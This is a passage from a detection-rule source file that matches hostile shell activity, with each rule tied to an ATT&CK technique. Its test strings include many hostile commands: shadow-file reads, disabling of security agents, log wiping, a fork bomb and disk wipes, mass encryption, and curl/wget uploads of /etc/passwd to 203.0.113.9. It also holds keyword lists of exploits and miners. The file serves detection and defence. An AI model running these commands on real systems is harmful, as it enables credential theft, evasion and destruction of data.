    look: onProcess(['passwd', 'chpasswd'], (process, scene) => (process.args.some(({ lower }) => lower === '--stdin') || inputsOf(process, scene).length > 0 ? process : undefined)),
  }),

  // Credentials
  behaviour('shadow-read', ['credential-file', 'T1003.008', 'credential-access', 'critical', 'medium'], {
    reason: 'The password hashes of the system are read or copied.',
    benign: ['a backup of /etc by root'],
    hits: ['cat /etc/shadow', 'unshadow /etc/passwd /etc/shadow > /tmp/h', 'cp /etc/shadow /tmp/s'],
    misses: ['chmod 640 /etc/shadow', 'ls -l /etc/shadow'],
    look: onProcess(['cat', 'cp', 'less', 'more', 'head', 'tail', 'base64', 'strings', 'grep', 'awk', 'sed', 'unshadow', 'curl', 'nc', 'tar', 'scp', 'vi', 'vim', 'view', 'dd', 'xxd', 'sort', 'python', 'perl', 'rsync', 'john', 'tac', 'nl', 'od', 'hexdump', 'cut', 'zip', 'gzip', 'getent'], any(arg(/^(?:@|if=|f=@|file=@)?(?:\/private)?\/etc\/(?:g?shadow-?|master\.passwd|security\/passwd|spwd\.db)$/), all((process) => (process.name === 'getent' ? process : undefined), arg(/^shadow$/)))),
  }),
  behaviour('passwd-file-read', ['credential-file', 'T1087.001', 'discovery', 'low', 'medium'], {
    reason: 'The list of the system’s accounts is read.',
    benign: ['looking up a user or a shell'],
    hits: ['cat /etc/passwd'],
    misses: ['ls /etc/passwd'],
    look: onProcess(['cat', 'cp', 'less', 'more', 'head', 'tail', 'base64', 'curl', 'nc', 'wget', 'strings', 'xxd', 'tac', 'nl', 'od', 'cut', 'awk', 'grep'], arg(/^(?:@|f=@|file=@)?\/etc\/passwd$/)),
  }),
  behaviour('private-key-hunt', ['credential-file', 'T1552.004', 'credential-access', 'high', 'medium'], {
    reason: 'Private keys are searched for, read or copied.',
    benign: ['an administrator’s inventory of keys'],
    hits: ['find / -name id_rsa 2>/dev/null', "find / -name '*.pem' -exec cp {} /tmp/k \\;", 'cat /root/.ssh/id_rsa', 'cat ~/.aws/credentials', 'tar czf /tmp/k.tgz ~/.ssh'],
    misses: ['ssh -i ~/.ssh/id_rsa host', 'ssh-keygen -f ~/.ssh/id_rsa'],
    look: onProcess(['find', 'cat', 'cp', 'grep', 'tar', 'less', 'curl', 'scp', 'rsync', 'zip', 'base64', 'locate', 'head', 'strings', 'dd', 'nc', 'ls'], (process) => {
      const file = process.args.find(({ lower }) => /(?:^|\/)(?:id_rsa|id_dsa|id_ecdsa|id_ed25519)(?:$|[*"'])|\.aws\/credentials|\.kube\/config$|\.docker\/config\.json|gcloud\/(?:credentials|access_tokens|application_default)|\.azure\/(?:accesstokens|msal)|\.git-credentials|\.netrc$|\.pgpass|krb5cc_|\.config\/gh\/hosts/.test(lower));
      if (file !== undefined && process.name !== 'ls' && !(process.name === 'cat' && file.lower.endsWith('.pub'))) return file;
      if (process.name === 'find') return process.args.find(({ lower }) => /^["']?(?:\*?\.(?:pem|ppk|key|p12|pfx|kdbx|ovpn|jks)|id_\w+\*?|\*?password\*?\S{0,6}|\*?\.(?:kube|aws)\S*)["']?$/.test(lower));
      return ['tar', 'zip', 'rsync', 'scp', 'cp'].includes(process.name) ? process.args.find(({ lower }) => /(?:^|\/)\.(?:ssh|aws|gnupg|kube|azure)\/?$/.test(lower)) : undefined;
    }),
  }),
  behaviour('password-grep', ['credential-file', 'T1552.001', 'credential-access', 'medium', 'high'], {
    reason: 'Files or histories are searched for passwords.',
    benign: ['a developer looking for a setting in own code'],
    hits: ["cat /root/.bash_history | grep -E 'ssh|mysql|pass'", 'grep -ri password /etc /home'],
    misses: ['grep -r TODO src'],
    look: onProcess(['grep', 'egrep', 'fgrep', 'rg', 'ack', 'awk'], (process, scene) => {
      const text = said(process);
      if (!/pass|pwd|secret|token|api_?key|credential|login/.test(text)) return undefined;
      return inputsOf(process, scene).some((one) => /_?history|\/etc\/|\/root|\/home|\/proc\/|environ|strings/.test(`${one.name} ${said(one)}`)) || /(?:^| )-[a-z]*r[a-z]* /.test(`${text} `) && /(?:^| )["']?(?:\/|~)/.test(text) || /history/.test(text) ? process : undefined;
    }),
  }),
  behaviour('history-read', ['credential-file', 'T1552.003', 'credential-access', 'medium', 'high'], {
    reason: 'The history of typed commands is read: passwords often stand in it.',
    benign: ['somebody looking for an own earlier command'],
    hits: ['cat ~/.bash_history', 'cat /home/*/.zsh_history', 'grep pass ~/.bash_history'],
    misses: ['history | tail'],
    look: onProcess(['cat', 'grep', 'less', 'head', 'tail', 'cp', 'strings', 'more', 'tar', 'curl', 'egrep'], arg(/(?:^|\/)\.(?:bash_|zsh_|sh_|mysql_|psql_|python_|ksh_|ash_)?history$/)),
  }),
  behaviour('cloud-metadata', ['credential-file', 'T1552.005', 'credential-access', 'high', 'medium'], {
    reason: 'The cloud’s metadata service is asked for credentials of this machine.',
    benign: ['start scripts of cloud images that ask for the region or id'],
    hits: ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role', "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"],
    misses: ['curl -s http://169.254.169.254/latest/meta-data/instance-id'],
    look: onText(['security-credentials', '/oauth2/token?', 'service-accounts/default/token', '169.254.170.2', 'meta-data/identity-credentials'], ({ lower }) => lower.includes('169.254.') || lower.includes('metadata')),
  }),
  behaviour('process-memory-read', ['credential-memory', 'T1003.007', 'credential-access', 'high', 'medium'], {
    reason: 'The memory of another process is read (/proc/…/maps and mem, gcore, gdb).',
    benign: ['a developer debugging an own program'],
    hits: ['grep -E "^[0-9a-f-]* r" /proc/"$PID"/maps', 'dd if=/proc/1234/mem of=/tmp/d', 'gcore -o /tmp/d 1234', 'sudo bash mimipenguin.sh'],
    misses: ['cat /proc/meminfo'],
    look: onText(['/maps', '/mem ', '/map ', 'mimipenguin', 'gcore ', 'dump_heap', '3snake', '/environ'], ({ lower }, at, literal) =>
      literal.startsWith('/') ? (literal === '/environ' ? /\/proc\/\*$/.test(lower.slice(Math.max(0, at - 10), at)) : /\/proc\/["'${}\w*]{1,24}$/.test(lower.slice(Math.max(0, at - 32), at))) : standsAt(lower, at),
    ),
  }),
  behaviour('keylogger', ['input-capture', 'T1056.001', 'collection', 'high', 'medium'], {
    reason: 'What is typed is recorded (logkeys, pam_tty_audit with passwords, PROMPT_COMMAND to a log, xinput).',
    benign: ['auditing of administrators by the company'],
    hits: ['logkeys --start --output /tmp/log.txt', 'echo "session required pam_tty_audit.so enable=* log_passwd" >> /etc/pam.d/sshd', `PROMPT_COMMAND='history -a >(tee -a ~/.h |logger -t x)'`],
    misses: ['logger -t backup done'],
    look: onText(['logkeys ', 'log_passwd', 'xinput test', 'xspy', 'keylogger', '-keylog', 'prompt_command=', '$bash_command', 'showkey', 'script -f /tmp'], ({ lower }, _at, literal) => (literal === 'prompt_command=' ? lower.includes('logger') || lower.includes('tee ') || lower.includes('curl') : literal === '$bash_command' ? lower.includes('trap') : true)),
  }),
  behaviour('shell-history-to-syslog', ['input-capture', 'T1056.001', 'collection', 'medium', 'medium'], {
    reason: 'A shell prompt is set to write every command to a log.',
    benign: ['auditing of administrators by the company'],
    hits: ['PS2=`logger -t "$USER" -f ~/.sh_history`; $PS2'],
    misses: ['PS1="\\u@\\h "'],
    look: onText(['ps1=', 'ps2=', 'ps4='], ({ lower }, at) => lower.slice(at, at + 40).includes('logger')),
  }),
  behaviour('syscall-audit-spy', ['input-capture', 'T1056.001', 'collection', 'medium', 'medium'], {
    reason: 'The audit system is told to record every command that runs.',
    benign: ['auditing by the company'],
    hits: ['auditctl -a always,exit -F arch=b64 -S execve -k CMDS'],
    misses: ['auditctl -s'],
    look: onProcess(['auditctl'], arg(/^execve$/)),
  }),
  behaviour('password-guessing', ['brute-force', 'T1110', 'credential-access', 'high', 'medium'], {
    reason: 'Passwords are tried one after the other (hydra, medusa, sshpass in a loop).',
    benign: ['a penetration test'],
    hits: ['hydra -l root -P pass.txt ssh://10.0.0.5', 'for p in $(cat /tmp/u);do sshpass -p $p ssh root@localhost;done', './sudo_bruteforce.sh'],
    misses: ['sshpass -f /etc/pw ssh host uptime'],
    look: onText(['hydra -', 'medusa -', 'sshpass -p', 'bruteforce', 'brute-force', 'patator', 'ncrack ', 'crowbar -', 'kerbrute'], ({ lower }, at, literal) => (literal === 'sshpass -p' ? /\bdo\b|while |for /.test(lower) : standsAt(lower, at) || literal === 'bruteforce')),
  }),

  // Containers and cloud
  behaviour('container-escape', ['container', 'T1611', 'privilege-escalation', 'critical', 'medium'], {
    reason: 'A container gets the whole machine (privileged, its root file system or its process list), or its wall is left (nsenter into process 1, release_agent).',
    benign: ['a monitoring agent that needs the host', 'a cluster’s own node maintenance'],
    hits: ['docker run --rm -it --privileged --pid=host -v /:/host alpine chroot /host', 'nsenter --target 1 --mount --uts --ipc --net --pid -- bash', 'mount -t cgroup -o rdma cgroup /tmp/cgrp; echo /cmd > /tmp/cgrp/release_agent', './deepce.sh --exploit SOCK'],
    misses: ['docker run --rm -v $PWD:/work node:22 npm test'],
    look: onProcess(['docker', 'podman', 'nsenter', 'echo', 'deepce.sh', 'ctr', 'crictl', 'kubectl', 'runc', 'nerdctl', 'cdk', 'amicontained'], (process) => {
      const text = said(process);
      switch (process.name) {
        case 'nsenter':
          return /(?:^| )(?:-t|--target)[ =]?1(?: |$)/.test(text) ? process : undefined;
        case 'echo':
          return process.args.find(({ lower, role }) => role === 'target' && /release_agent$|core_pattern$|\/sys\/kernel\/uevent_helper/.test(lower));
        case 'deepce.sh':
        case 'cdk':
        case 'amicontained':
          return process;
        default:
          return /(?:-v|--volume)[ =]["']?\/:\/|source=\/,|hostpid|"hostpath"/.test(text) || (/--privileged/.test(text) && /--pid[= ]host|nsenter|chroot|\/dev\/sd|docker\.sock/.test(text)) ? process : undefined;
      }
    }),
  }),
  behaviour('container-privileged', ['container', 'T1610', 'privilege-escalation', 'medium', 'medium'], {
    reason: 'A container is started with all rights, with the daemon’s socket, or on a daemon elsewhere that asks for no password.',
    benign: ['building containers inside containers'],
    hits: ['docker run --privileged alpine', 'docker -H tcp://10.20.4.30:2375 run -d alpine'],
    misses: ['docker ps'],
    look: onProcess(['docker', 'podman', 'nerdctl'], any(arg(/^--privileged/), arg(/^--pid=host/), arg(/^tcp:\/\//))),
  }),
  behaviour('vulnerability-name', ['exploit', 'T1068', 'privilege-escalation', 'high', 'high'], {
    reason: 'A file or image is named after a known vulnerability: an exploit is built or run.',
    benign: ['a scanner’s report', 'downloading a patch'],
    hits: ['python3 CVE-2021-1675.py corp/u:p@10.0.0.5', 'docker run --rm cve-2019-5736:stage_image_POC', './dirtypipe /bin/su'],
    misses: ['grep CVE-2021-44228 report.txt', 'apt changelog openssl'],
    look: onProcess(['*'], (process) => {
      if (['grep', 'echo', 'cat', 'less', 'apt', 'apt-get', 'yum', 'dnf', 'git', 'get-hotfix', 'trivy', 'grype', 'rpm', 'write-host', 'gh'].includes(process.name)) return undefined;
      if (/cve-\d{4}-\d{3,}/.test(process.name)) return process;
      return process.args.find(({ lower }) => /(?:^|[/\\_-])cve[-_]\d{4}[-_]\d{3,}/.test(lower) && !lower.startsWith('http'));
    }),
  }),
  behaviour('exploit-name', ['exploit', 'T1068', 'privilege-escalation', 'high', 'high'], {
    reason: 'A well-known exploit is named.',
    benign: ['a report about it'],
    hits: ['./dirtycow /etc/passwd', 'python3 zerologon_tester.py DC01 10.0.0.1', 'nmap --script smb-vuln-ms17-010 10.0.0.5', './pwnkit'],
    misses: ['echo dirty > cow'],
    look: onText(['dirtycow', 'dirty_cow', 'dirtypipe', 'pwnkit', 'zerologon', 'printnightmare', 'nopac', 'petitpotam', 'eternalblue', 'ms17-010', 'ms17_010', 'sam_the_admin', 'sam-the-admin', 'hivenightmare', 'juicypotato', 'roguepotato', 'printspoofer', 'godpotato', 'sweetpotato', 'badpotato', 'efspotato', 'sharpefspotato', 'rottenpotato', 'log4shell', 'proxylogon', 'proxyshell', 'samaccountname spoof', 'ms14-068', 'ms15-051', 'ms16-032', 'ms16-135', 'invoke-ms16', 'sherlock.ps1', 'overlayfs exploit', 'shellshock', 'stratus detonate', 'stratus warmup'], ({ lower }, at) => standsAt(lower, at)),
  }),

  // Impairing defences and removing traces
  behaviour('defence-stop', ['defence', 'T1562.001', 'defense-evasion', 'critical', 'medium'], {
    reason: 'A protection is stopped, disabled or removed (endpoint agent, SELinux, AppArmor, audit, cloud agent).',
    benign: ['an upgrade of the agent'],
    hits: ['systemctl stop falcon-sensor', 'setenforce 0', 'service auditd stop', 'auditctl -D', 'auditctl -e 0', 'systemctl disable --now apparmor', 'rm -rf /opt/CrowdStrike', "ps aux | grep 'aegis' | awk '{print $2}' | xargs kill -9", 'launchctl unload -w /Library/LaunchDaemons/com.crowdstrike.falcond.plist'],
    misses: ['systemctl restart nginx', 'setenforce 1'],
    look: onProcess(['systemctl', 'service', 'setenforce', 'auditctl', 'rm', 'pkill', 'killall', 'kill', 'chkconfig', 'launchctl', 'apt', 'apt-get', 'yum', 'dpkg', 'grep', 'egrep', 'xargs', 'update-rc.d', 'rcctl', 'dnf', 'rpm', 'chmod', 'mv', 'sed', 'echo'], (process, scene) => {
      const text = said(process);
      switch (process.name) {
        case 'setenforce':
          return /^(?:0|permissive)/.test(text) ? process : undefined;
        case 'auditctl':
          return process.args.find(({ text: word }, index) => word === '-D' || (word === '-e' && process.args[index + 1]?.text === '0'));
        case 'grep':
        case 'egrep':
          return PROTECTION.test(text) && scene.processes.some(({ name, args }) => name === 'kill' || (name === 'xargs' && args.some(({ lower }) => /^kill|pkill/.test(lower)))) ? process : undefined;
        case 'echo':
          return /selinux=disabled/.test(text) ? process : undefined;
        case 'sed':
          return /selinux=disabled|selinux=permissive/.test(text) ? process : undefined;
        case 'systemctl':
          return /^(?:--\S+ )?(?:stop|disable|mask|kill)/.test(text) && PROTECTION.test(text) ? process : undefined;
        case 'service':
        case 'chkconfig':
        case 'update-rc.d':
        case 'rcctl':
          return /stop|off|disable|remove/.test(text) && PROTECTION.test(text) ? process : undefined;
        case 'launchctl':
          return /^(?:unload|bootout|disable|remove|stop|kill)/.test(text) && PROTECTION.test(text) ? process : undefined;
        case 'apt':
        case 'apt-get':
        case 'yum':
        case 'dnf':
        case 'rpm':
        case 'dpkg':
          return /remove|purge|erase|(?:^| )-e /.test(text) && PROTECTION.test(text) ? process : undefined;
        case 'xargs':
          return undefined;
        case 'rm':
        case 'pkill':
        case 'killall':
        case 'kill':
        case 'mv':
        case 'chmod':
          return PROTECTION.test(text) ? process : undefined;
        default:
          return undefined;
      }
    }),
  }),
  behaviour('firewall-off', ['defence', 'T1562.004', 'defense-evasion', 'high', 'medium'], {
    reason: 'The firewall is turned off or its rules are thrown away.',
    benign: ['a container host that sets its own rules'],
    hits: ['iptables -F', 'ufw disable', 'iptables -P INPUT ACCEPT', 'systemctl stop firewalld', 'nft flush ruleset', 'ufw logging off', 'iptables -D OUTPUT -p tcp --dport 21 -j DROP', 'esxcli network firewall set --enabled false'],
    misses: ['iptables -A INPUT -p tcp --dport 22 -j ACCEPT', 'ufw status'],
    look: onProcess(['iptables', 'ip6tables', 'ufw', 'systemctl', 'service', 'nft', 'pfctl', 'firewall-cmd', 'esxcli'], (process) => {
      const text = process.args.map((one) => one.text).join(' ');
      switch (process.name) {
        case 'iptables':
        case 'ip6tables':
          return /(?:^| )(?:-F|--flush|-X)(?: |$)|-P (?:INPUT|FORWARD) ACCEPT|-D \S+ [^;]{0,80}(?:DROP|REJECT)/.test(text) ? process : undefined;
        case 'ufw':
          return /^(?:--force )?(?:disable|reset|logging off)/.test(text) ? process : undefined;
        case 'nft':
          return /flush ruleset/.test(text) ? process : undefined;
        case 'pfctl':
          return /(?:^| )-[a-z]*d(?: |$)|-F all/.test(text) ? process : undefined;
        case 'firewall-cmd':
          return /--panic-off|--set-default-zone=trusted/.test(text) ? process : undefined;
        case 'esxcli':
          return /firewall set .*(?:-e|--enabled)[ =](?:false|0)/.test(text.slice(0, 200)) ? process : undefined;
        default:
          return /(?:stop|disable|mask)/.test(text) && /firewalld|iptables|ufw|nftables/.test(text) ? process : undefined;
      }
    }),
  }),
  behaviour('history-off', ['traces', 'T1070.003', 'defense-evasion', 'high', 'medium'], {
    reason: 'The history of typed commands is switched off, emptied or sent nowhere.',
    benign: ['keeping a password out of the history'],
    hits: ['history -c', 'export HISTFILE=/dev/null', 'unset HISTFILE', 'export HISTSIZE=0', 'cat /dev/null > ~/.bash_history', 'ln -s /dev/null /root/.bash_history', 'set +o history', 'export HISTCONTROL=ignoreboth', 'rm ~/.bash_history', "export HISTIGNORE='ls*:rm*'"],
    misses: ['export HISTSIZE=10000', 'history | grep ssh'],
    look: onText(['history -c', 'histfile', 'histsize=0', 'histfilesize=0', '_history', 'set +o history', 'histcontrol=', 'histignore=', 'history -w'], ({ lower }, at, literal) => {
      const after = lower.slice(at + literal.length, at + literal.length + 20);
      const before = lower.slice(Math.max(0, at - 60), at);
      switch (literal) {
        case 'histfile':
          return /^=["']?(?:\/dev\/null|["']|;|\s|$)/.test(after) || /unset\s+$|>\s*["']?\$\{?$/.test(before);
        case 'histsize=0':
        case 'histfilesize=0':
          return !/^\d/.test(after);
        case '_history':
          return /(?:>|rm\s(?:-\w+\s)?|shred\s(?:\S+\s)?|ln -sf?\s\/dev\/null\s|truncate\s(?:\S+\s){0,2}|unlink\s|cp \/dev\/null\s)["']?\S{0,30}$/.test(before);
        case 'histcontrol=':
          return /^["']?ignore(?:both|space)/.test(after);
        case 'histignore=':
          return true;
        default:
          return true;
      }
    }),
  }),
  behaviour('log-removal', ['traces', 'T1070.002', 'defense-evasion', 'high', 'medium'], {
    reason: 'System logs are removed or emptied.',
    benign: ['making an image smaller', 'freeing space'],
    hits: ['rm -rf /var/log/syslog /var/log/auth.log', 'echo > /var/log/wtmp', 'truncate -s 0 /var/log/messages', 'shred -u /var/log/system.log', 'journalctl --vacuum-time=0', 'sudo log erase --all', 'unlink /var/log/messages', 'cat /dev/null > /var/log/messages', "find /var/log -name 'system.log*' -exec rm {} \\;"],
    misses: ['tail -f /var/log/syslog', 'rm /var/log/app/old.log.gz', 'rm -rf /var/lib/apt/lists/*'],
    look: onProcess(['rm', 'truncate', 'shred', 'unlink', 'srm', 'journalctl', 'log', 'echo', 'cat', 'dd', 'find', 'cp', 'true', ':', 'wevtutil', 'osascript', 'tee'], (process) => {
      const text = said(process);
      switch (process.name) {
        case 'journalctl':
          return /--vacuum-(?:time|size)[= ](?:0|1)(?:s|m|b|k|$| )|--vacuum-time=0/.test(text) ? process : undefined;
        case 'log':
          return /^erase/.test(text) ? process : undefined;
        case 'osascript':
          return /\/var\/log\//.test(text) && /delete|rm /.test(text) ? process : undefined;
        case 'find':
          return /\/var\/log/.test(text) && /(?:-delete|-exec (?:\/bin\/)?(?:rm|shred|srm))/.test(text) ? process : undefined;
        case 'rm':
        case 'truncate':
        case 'shred':
        case 'unlink':
        case 'srm':
        case 'dd':
          return process.args.find(({ lower }) => SYSTEM_LOG.test(lower.replace(/^of=/, '')));
        default:
          return process.args.find(({ lower, role }) => role === 'target' && SYSTEM_LOG.test(lower));
      }
    }),
  }),
  behaviour('immutable-flag', ['traces', 'T1222.002', 'defense-evasion', 'medium', 'high'], {
    reason: 'The flag that keeps a file from change is set or taken away on a file of logins, jobs or the system.',
    benign: ['hardening'],
    hits: ['chattr -iae /root/.ssh/authorized_keys', 'chattr +i /etc/cron.d/root', 'chattr -i /var/spool/cron/root'],
    misses: ['chattr +C /var/lib/vm'],
    look: onProcess(['chattr'], all(arg(/^[-+][a-z]*[ia][a-z]*$/), arg(/\/etc\/|\.ssh|cron|\/usr\/(?:s?bin|lib)|\/tmp|\/root|\/var\/|\/dev\/shm/))),
  }),
  behaviour('timestamp-forged', ['traces', 'T1070.006', 'defense-evasion', 'medium', 'medium'], {
    reason: 'A file’s times are set to those of another, so that it looks old.',
    benign: ['a build that wants the same times always'],
    hits: ['touch -r /bin/ls /tmp/x', 'touch -acmr /bin/sh /lib/x.so', 'touch -t 201001010000 /tmp/x'],
    misses: ['touch marker'],
    look: onProcess(['touch'], arg(/^-[acm]*[rt]$|^--reference/)),
  }),
  behaviour('kernel-name-mask', ['masquerade', 'T1036.004', 'defense-evasion', 'high', 'medium'], {
    reason: 'A process takes the name or the process folder of another.',
    benign: [],
    hits: ['sudo mount -B /proc/$random_kernel_pid /proc/$(cat /tmp/pid)', "exec -a '[kworker/0:1]' /tmp/x"],
    misses: ['mount -B /srv /mnt'],
    look: onText(['mount -b /proc/', 'mount --bind /proc/', 'exec -a ', 'prctl_rename', 'mount -o bind /'], ({ lower }, at, literal) => (literal === 'exec -a ' ? /^["']?\[|^["']?(?:k\w+|sshd|systemd|httpd|cron)/.test(lower.slice(at + literal.length)) : literal === 'mount -o bind /' ? lower.includes('/proc/') : true)),
  }),
  behaviour('space-after-name', ['masquerade', 'T1036.006', 'defense-evasion', 'medium', 'medium'], {
    reason: 'A file name ends in a space, so that it opens as something else than it looks.',
    benign: [],
    hits: [`mkdir -p 'dir '; echo x > "dir /init "`],
    misses: ["mkdir -p 'My Documents'"],
    look: onProcess(['mkdir', 'echo', 'printf', 'mv', 'cp', 'touch', 'chmod'], ({ args }) => args.find(({ text, role }) => role !== 'flag' && (role === 'target' || !/\s\S/.test(text.trim())) && /[\w)/]\s+$/.test(text) && text.length < 80)),
  }),

  // Miners and impact
  behaviour('miner', ['miner', 'T1496', 'impact', 'critical', 'high'], {
    reason: 'A miner of cryptocurrency is fetched or started (a known miner, a mining pool, its options).',
    benign: ['somebody who mines on purpose'],
    hits: ['./xmrig -o pool.example:4444 -u 43Z -p x', '/dev/shm/kthreadd -a rx/0 --url stratum+tcp://pool.example:10128', './minerd -a cryptonight -o stratum+tcp://p.example:3333', '/tmp/kdevtmpfsi', 'wget https://github.com/xmrig/xmrig/releases/download/v6/x.tar.gz'],
    misses: ['node miner-game.js'],
    look: onText(['xmrig', 'stratum+tcp', 'stratum+ssl', 'cryptonight', 'kdevtmpfsi', 'kinsing', 'minerd ', '--donate-level', 'minexmr', 'moneroocean', 'nanopool', 'supportxmr', 'nicehash', 'ethminer', 'phoenixminer', 'xmr-stak', 'cpuminer', 'randomx', '-a rx/0', 'ccminer', 't-rex -a', 'lolminer', 'c3pool', '2miners', 'hashvault', 'cgminer', 'bfgminer', 'nbminer', 'srbminer'], ({ lower }, at) => !/(?:pkill|kill|killall|grep)[^;|&]{0,20}$/.test(lower.slice(Math.max(0, at - 30), at))),
  }),
  behaviour('cpu-burn', ['miner', 'T1496', 'impact', 'low', 'high'], {
    reason: 'The processor is kept busy without a result.',
    benign: ['a load test'],
    hits: ['yes > /dev/null'],
    misses: ['yes | apt-get install x'],
    look: onProcess(['yes'], ({ args }) => args.find(({ lower, role }) => role === 'target' && lower === '/dev/null')),
  }),
  behaviour('mass-encryption', ['ransom', 'T1486', 'impact', 'critical', 'medium'], {
    reason: 'Many files are encrypted and the originals removed.',
    benign: ['an own backup that encrypts files one by one'],
    hits: ["find / -type f -name '*.vmdk' -exec openssl enc -aes-256-cbc -pass file:/tmp/k -in {} -out {}.enc \\; -exec rm -f {} \\;", '/tmp/encrypt -p 20 -n -f /vmfs/volumes', 'find /home -type f -exec gpg --batch --passphrase x -c {} \\;'],
    misses: ['openssl enc -aes-256-cbc -in a -out a.enc'],
    look: onText(['openssl enc', 'gpg ', 'encrypt', 'ccrypt', '7z a '], ({ lower }) => (/find \S+|for \w+ in/.test(lower) && /-exec|\bdo\b|xargs/.test(lower) && /rm -|shred|-pass|passphrase|-mhe/.test(lower)) || (lower.includes('/vmfs/volumes') && lower.includes('encrypt'))),
  }),
  behaviour('virtual-machines-stopped', ['ransom', 'T1489', 'impact', 'critical', 'medium'], {
    reason: 'Virtual machines are killed or stopped by the dozen, as before their disks are encrypted.',
    benign: ['maintenance of a host'],
    hits: ['esxcli vm process kill --type=force --world-id=2099721', "vim-cmd vmsvc/getallvms | awk '{print $1}' | xargs -I{} vim-cmd vmsvc/power.off {}", 'vim-cmd vmsvc/snapshot.removeall 12'],
    misses: ['esxcli vm process list'],
    look: onText(['vm process kill', 'vmsvc/power.off', 'vmsvc/snapshot.removeall', 'virsh destroy', 'qm stop ']),
  }),
  behaviour('disk-wipe', ['destroy', 'T1485', 'impact', 'critical', 'medium'], {
    reason: 'A disk or the whole file system is overwritten or removed.',
    benign: ['preparing an own disk'],
    hits: ['dd if=/dev/zero of=/dev/sda bs=1M', 'rm -rf / --no-preserve-root', 'mkfs.ext4 /dev/sda1', ':(){ :|:& };:'],
    misses: ['dd if=debian.iso of=disk.img', 'rm -rf ./build'],
    look: onText(['of=/dev/sd', 'of=/dev/nvme', 'of=/dev/vd', 'of=/dev/hd', 'of=/dev/xvd', 'of=/dev/disk', 'no-preserve-root', 'rm -rf /*', ':(){', 'shred /dev/sd', 'wipefs -a /dev/'], ({ lower }, _at, literal) => (literal.startsWith('of=') ? /if=\/dev\/(?:zero|u?random|null)/.test(lower) : true)),
  }),

  // Discovery and collection
  behaviour('enumeration-script', ['enumeration', 'T1082', 'discovery', 'critical', 'medium'], {
    reason: 'A well-known script that searches a machine for ways to root is fetched or run.',
    benign: ['a penetration test'],
    hits: ['./linpeas.sh -a', 'curl https://host.example/linpeas.sh -o l.sh', './LinEnum.sh -t', 'python3 linuxprivchecker.py', './lse.sh -l 1', './pspy64'],
    misses: ['./configure'],
    look: onText(['linpeas', 'winpeas', 'linenum', 'linuxprivchecker', 'linux-exploit-suggester', 'linux_exploit_suggester', 'pspy32', 'pspy64', 'unix-privesc-check', 'lse.sh', 'beroot', 'peass-ng', 'linux-smart-enumeration', 'privesccheck', 'traitor-', 'gtfonow', 'suid3num', 'discovery.sh'], ({ lower }, at) => standsAt(lower, at)),
  }),
  behaviour('port-scan', ['scan', 'T1046', 'discovery', 'medium', 'medium'], {
    reason: 'Other machines are searched for open ports.',
    benign: ['an administrator’s check'],
    hits: ['nmap -sS 192.168.1.0/24 -p 80', 'masscan 10.0.0.0/8 -p445', 'for port in {1..65535}; do (echo >/dev/tcp/192.168.1.1/$port); done', 'fscan -h 10.0.0.0/24', 'zmap -p 80'],
    misses: ['nmap --version'],
    look: onProcess(['nmap', 'masscan', 'zmap', 'fscan', 'rustscan', 'naabu', 'unicornscan', 'for', 'netscan', 'advanced_port_scanner', 'scanline'], (process) => {
      const text = said(process);
      if (process.name === 'for') return undefined;
      return /--?version|--?help|^-h$/.test(text) ? undefined : process;
    }),
  }),
  behaviour('port-scan-loop', ['scan', 'T1046', 'discovery', 'high', 'medium'], {
    reason: 'A loop of the shell tries port after port or address after address.',
    benign: ['waiting for a service'],
    hits: ['for port in {1..65535}; do (2>/dev/null echo >/dev/tcp/192.168.1.1/$port) && echo open; done', 'for i in $(seq 1 254); do ping -c 1 -w 1 10.0.0.$i; done'],
    misses: ['for i in 1 2 3; do curl localhost; done'],
    look: onText(['/dev/tcp/', 'ping -', 'nc -z'], ({ lower }) => /(?:for|while) [^;]{0,80}(?:\{\d+\.\.\d{2,}|seq \d|1\.\.254)/.test(lower)),
  }),
  behaviour('exfiltration-upload', ['exfiltration', 'T1048', 'exfiltration', 'high', 'medium'], {
    reason: 'A file, or what a command gives, is sent to an address outside.',
    benign: ['uploading an artefact to an own server'],
    hits: ['curl -F f=@/tmp/h http://203.0.113.9/up', 'curl --upload-file /var/backups/d.dump https://transfer.sh/d', 'wget --post-file=/etc/passwd http://203.0.113.9', 'cat /etc/passwd | curl -d @- http://203.0.113.9', 'curl -T secrets.zip ftp://203.0.113.9/', 'wget –post-file x http://203.0.113.9'],
    misses: ["curl -X POST -d '{\"a\":1}' https://api.corp.example/v1", 'curl -F file=@a.txt http://localhost/up'],
    look: onProcess(['curl', 'wget'], (process) => {
      const { args } = process;
      const url = args.find(({ lower, role }) => role === 'url' || /^\d{1,3}(?:\.\d{1,3}){3}/.test(lower) || /^[a-z0-9.-]+\.[a-z]{2,}\//.test(lower));
      if (url === undefined || /localhost|127\.0\.0\.1|\[::1\]/.test(url.lower)) return undefined;
      const sends = args.some(({ text, lower }, index) => {
        const next = args[index + 1]?.lower ?? '';
        return /^(?:[-–]{1,2}post-file|[-–]{1,2}body-file|--upload-file)/.test(lower) || text === '-T' || (/^(?:-F|--form|-d|--data\S*)$/.test(text) && /^["']?(?:\w*=)?["']?@/.test(next)) || /^(?:-d|-F)@/.test(text) || /^--(?:data|form)\S*=(?:\w+=)?@/.test(lower);
      });
      return sends && isOutside(url.lower) ? url : undefined;
    }),
  }),
  behaviour('command-output-sent', ['exfiltration', 'T1041', 'exfiltration', 'high', 'medium'], {
    reason: 'What a command prints is put into a request to the outside.',
    benign: ['a health check that reports the host’s name'],
    hits: ['curl "http://203.0.113.9/?d=$(cat /etc/passwd | base64)"', 'wget --header="x:$(cat /etc/passwd)" http://203.0.113.9', 'whois -h 203.0.113.9 -p 443 "`cat /etc/passwd`"', 'nslookup $(whoami).x.example'],
    misses: ['curl -Lo app https://host.example/app-$(uname -s)-$(uname -m)'],
    look: onText(['$(cat ', '`cat ', '$(whoami', '`whoami', '$(hostname', '`hostname', '$(base64 ', '`base64 ', '$(id)', '$(cat<'], ({ lower }, at) => /(?:curl|wget|whois|nslookup|dig|host|ping|nc|invoke-webrequest) [^;|&\n]{0,200}$/.test(lower.slice(Math.max(0, at - 220), at))),
  }),
  behaviour('file-sharing-site', ['exfiltration', 'T1567.002', 'exfiltration', 'high', 'medium'], {
    reason: 'A place is addressed where anybody can leave or fetch files without a name (paste and file sharing, messenger bots, web hooks).',
    benign: ['sharing a file with a colleague'],
